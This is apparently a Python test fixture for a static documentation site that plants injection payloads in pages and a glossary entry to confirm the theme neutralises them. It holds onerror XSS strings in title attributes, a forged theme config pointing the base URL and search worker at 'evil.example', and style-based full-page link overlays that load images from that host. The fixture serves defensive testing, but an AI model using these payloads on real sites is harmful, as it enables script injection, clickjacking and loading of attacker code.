"""Content that once ran script or reached another site through the theme, for one small non-strict build.

Material shows every title of the content as a tooltip by setting it as HTML, reads its
settings from the first ``#__config`` of the page, and lets a ``style`` attribute lay a
link over the page. Each payload below is published as a non-strict build would publish
it; tests/test_injection.py checks the messages and the HTML, the browser tests check
that nothing runs and nothing leaves the site. The content is the test's own: its own
volume folder, glossary entry and pages, whatever else the project holds.
"""

from __future__ import annotations

import json

VOLUME_DIR = "papers/payload-vol"
EVIL_HOST = "evil.example"
CONFIG = json.dumps({"base": f"http://{EVIL_HOST}/x/", "features": [], "translations": {},
                     "search": f"http://{EVIL_HOST}/worker.js", "version": {"provider": "mike"}})

VOLUME = "title: Payload volume\ndate: 2007-10\npublisher: A publisher\neditors:\n  - name: A. Editor\n"

# page (site URL) -> (source file, Markdown body): one payload a page, so that each is judged alone.
# A payload that runs marks itself in the page's ``__ran`` (set up by the browser tests).
PAPERS = {
    "link-title": "Hover [the titled link](https://example.org/ \"&lt;img src=x onerror=__ran.linktitle=1&gt;\") now.",
    "abbr-title": "Hover <abbr title=\"&lt;img src=x onerror=__ran.abbrtitle=1&gt;\">ABBR</abbr> now.",
    "config": f"Zero clicks.\n\n<div id=\"__config\" hidden>{CONFIG}</div>\n\nAfter the block.",
    "style": ("The [covering link](https://example.org/){: style=\"position:fixed;top:0;left:0;width:100%;"
              f"height:100%;background:url(http://{EVIL_HOST}/track.gif)\" }} and "
              f"<a href=\"https://example.org/\" style=\"background:url(http://{EVIL_HOST}/raw.gif)\">raw</a>."),
    # Not a payload: headings whose anchors, made from their words, would be the theme's names.
    "headings": "## MD-5 checksums\n\nWords.\n\n## \\_\\_init\\_\\_ methods\n\nMore words.",
}

GLOSSARY_ID = "zzpayload-config"
GLOSSARY_ENTRY = f"""
- id: {GLOSSARY_ID}
  term: zzpayloadterm
  category: Collaborative practice
  definition: "A concept whose explanation tries to become the theme's settings <img src=x onerror=__ran.definition=1>."
  explanation: |
    {CONFIG}
    {{: #__config hidden }}
"""


def paper(name: str, body: str, order: int = 1) -> str:
    return (f"---\ntitle: Payload {name}\nauthors:\n  - name: A. Author\norder: {order}\n---\n\n{body}\n\n"
            "Mentions zzpayloadterm.\n")


def files() -> dict[str, object]:
    """The ``files=`` of :func:`sitebuild.prepare_project` for the payload site."""
    found: dict[str, object] = {f"{VOLUME_DIR}/volume.yml": VOLUME,
                                "glossary.yml": lambda text: text + GLOSSARY_ENTRY}
    for order, (name, body) in enumerate(PAPERS.items(), 1):
        found[f"{VOLUME_DIR}/{name}.md"] = paper(name, body, order)
    return found


def page_url(name: str) -> str:
    return f"payload-vol/{name}/"


GLOSSARY_URL = f"concepts/{GLOSSARY_ID}/"
